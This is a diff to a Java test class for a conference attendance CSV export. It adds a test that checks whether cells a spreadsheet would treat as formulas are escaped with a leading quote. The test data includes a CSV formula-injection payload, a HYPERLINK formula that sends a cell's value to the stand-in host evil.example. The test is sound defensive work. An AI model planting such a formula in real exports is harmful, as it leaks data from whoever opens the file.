@@ -119,7 +119,9 @@ class AttendanceCsvTest {
         row.put("title", text(delegate.get("title")));
         row.put("organization", text(delegate.get("organization")));
         row.put("email", text(delegate.get("email")));
-        row.put("phone", text(delegate.get("phone")));
+        // a leading '+' would make a spreadsheet compute the number: the cell is written as text (CsvCells)
+        String phone = text(delegate.get("phone"));
+        row.put("phone", phone.startsWith("+") ? "'" + phone : phone);
         row.put("assignedSite", siteName(delegate.get("siteId")));
         Map<String, Object> checkIn = current(s, (String) delegate.get("id"));
         Map<String, Object> none = new HashMap<>();
@@ -239,6 +241,31 @@ class AttendanceCsvTest {
         Map<String, Map<String, String>> hostRows = byName(rows(download(Api.siteHost(s.host()), s)));
         assertEquals(Set.of("Trần Quốc Tỏ", "Phạm Đức Thắng", "Võ Văn Thưởng"), hostRows.keySet());
         hostRows.forEach((name, row) -> assertEquals(rows.get(name), row));
+    }
+
+    @Test
+    void cellsThatASpreadsheetWouldTakeForFormulasAreWrittenAsText() throws IOException {
+        Setup s = Api.setup();
+        String formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
+        asOrganizer()
+                .body(Map.of(
+                        "fullName", formula,
+                        "title", "+84 905 123 456",
+                        "organization", "-Ban Dân vận",
+                        "email", "ha@example.vn",
+                        "siteId", s.remote()))
+                .post(s.path() + "/delegates")
+                .then()
+                .statusCode(201);
+        Map<String, String> row = rows(download(Api.organizer(), s)).get(0);
+        assertEquals("'" + formula, row.get("fullName"));
+        assertEquals("'+84 905 123 456", row.get("title"));
+        assertEquals("'-Ban Dân vận", row.get("organization"));
+        assertEquals("ha@example.vn", row.get("email"), "other cells are left as they are");
+        // and the API still shows the name as given
+        assertEquals(
+                formula,
+                asOrganizer().get(s.path() + "/delegates").then().extract().path("items[0].fullName"));
     }
 
     @Test
